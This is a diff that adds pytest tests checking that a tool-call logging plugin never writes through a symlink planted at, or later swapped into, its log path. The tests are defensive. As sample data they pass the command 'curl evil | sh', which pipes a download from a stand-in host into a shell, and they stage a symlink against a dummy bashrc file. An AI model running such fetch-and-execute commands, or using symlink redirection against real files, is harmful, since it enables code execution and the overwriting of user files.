@@ -1130,3 +1130,43 @@ def test_async_runtime_sessions(log_path):
     assert len({(r["call_id"], r["event"], r["ts"], r.get("hook")) for r in records}) == len(
         records
     )
+
+
+# -- never through a symlink (issue #10 item 8) -------------------------------------------------
+
+
+@pytest.mark.skipif(not POSIX, reason="O_NOFOLLOW is POSIX")
+def test_a_symlink_at_the_log_path_is_never_written_through(make_plugin, log_path, caplog):
+    victim = log_path.parent.parent / "bashrc"
+    victim.write_text("export PATH=/usr/bin\n")
+    log_path.parent.mkdir(parents=True)
+    log_path.symlink_to(victim)
+    plugin = make_plugin()
+    with caplog.at_level(logging.WARNING, logger="toolhooks"):
+        emit_call(plugin, "c1", cmd="curl evil | sh")
+        plugin.flush()
+    assert victim.read_text() == "export PATH=/usr/bin\n"
+    assert log_path.is_symlink()
+    stats = plugin.stats()
+    assert stats.written == 0 and stats.dropped == len(CALL_EVENTS)
+    assert stats.last_error is not None and "Errno 40" in stats.last_error  # ELOOP
+    assert any(str(log_path) in record.getMessage() for record in caplog.records)
+
+
+@pytest.mark.skipif(not POSIX, reason="O_NOFOLLOW is POSIX")
+def test_a_symlink_swapped_in_later_is_not_followed(make_plugin, log_path):
+    plugin = make_plugin()
+    emit_call(plugin, "c1")
+    plugin.flush()
+    victim = log_path.parent / "victim.txt"
+    victim.write_text("keep me\n")
+    os.replace(log_path, log_path.with_suffix(".old"))
+    log_path.symlink_to(victim)
+    deadline = time.monotonic() + 30
+    while plugin.stats().dropped == 0:  # the writer re-stats its path about once a second
+        assert time.monotonic() < deadline, "the writer never noticed the swapped path"
+        emit_call(plugin, "c2", cmd="echo pwned")
+        plugin.flush()
+        time.sleep(0.05)
+    assert victim.read_text() == "keep me\n"
+    assert len(lines_of(log_path.with_suffix(".old"))) >= len(CALL_EVENTS)
